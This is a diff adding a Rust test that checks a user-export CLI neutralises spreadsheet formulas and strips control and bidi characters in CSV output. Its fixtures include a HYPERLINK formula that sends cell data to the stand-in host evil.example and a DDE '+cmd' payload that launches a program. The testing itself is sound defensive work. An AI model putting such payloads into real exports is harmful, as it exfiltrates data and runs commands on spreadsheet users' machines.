@@ -428,3 +428,59 @@ async fn export_failures_use_the_documented_exit_codes() {
         stderr(&o)
     );
 }
+
+#[tokio::test]
+async fn csv_output_neutralises_spreadsheet_formulas_and_control_characters() {
+    let (mut persons, employments) = generated(3);
+    persons[0]["firstName"] = json!("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")");
+    persons[1]["emailAddress"] = json!("+cmd|' /C calc'!A0");
+    persons[2]["lastName"] = json!("-2+3\u{0}\u{202e}+cmd");
+    let server = support::ukg(Paged::new(persons), Paged::new(employments)).await;
+    let dir = temp_dir("csv-formulas");
+    let file = write_config(&dir, &settings(&server.uri()));
+    let rows = |raw: bool| {
+        let file = file.clone();
+        async move {
+            let mut args = vec!["ukgpro", "users", "--config", &file, "--format", "csv"];
+            if raw {
+                args.push("--csv-raw");
+            }
+            let o = connector(&args, &[]).await;
+            assert_eq!(code(&o), 0, "{}", stderr(&o));
+            let mut reader = csv::Reader::from_reader(o.stdout.as_slice());
+            let header = reader.headers().unwrap().clone();
+            let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+            let (first, display, email, last) = (
+                col("first_name"),
+                col("display_name"),
+                col("email"),
+                col("last_name"),
+            );
+            reader
+                .records()
+                .map(|r| {
+                    let r = r.unwrap();
+                    [&r[first], &r[display], &r[email], &r[last]].map(str::to_owned)
+                })
+                .collect::<Vec<_>>()
+        }
+    };
+    let safe = rows(false).await;
+    assert!(safe[0][0].starts_with("'=HYPERLINK"), "{:?}", safe[0]);
+    assert!(
+        safe[0][1].starts_with("'=HYPERLINK"),
+        "derived display_name: {:?}",
+        safe[0]
+    );
+    assert!(safe[1][2].starts_with("'+cmd"), "{:?}", safe[1]);
+    assert_eq!(
+        safe[2][3], "'-2+3+cmd",
+        "control and bidi characters removed"
+    );
+    let raw = rows(true).await;
+    assert!(raw[0][0].starts_with("=HYPERLINK"), "{:?}", raw[0]);
+    assert_eq!(
+        raw[2][3], "-2+3+cmd",
+        "control characters are removed even raw"
+    );
+}
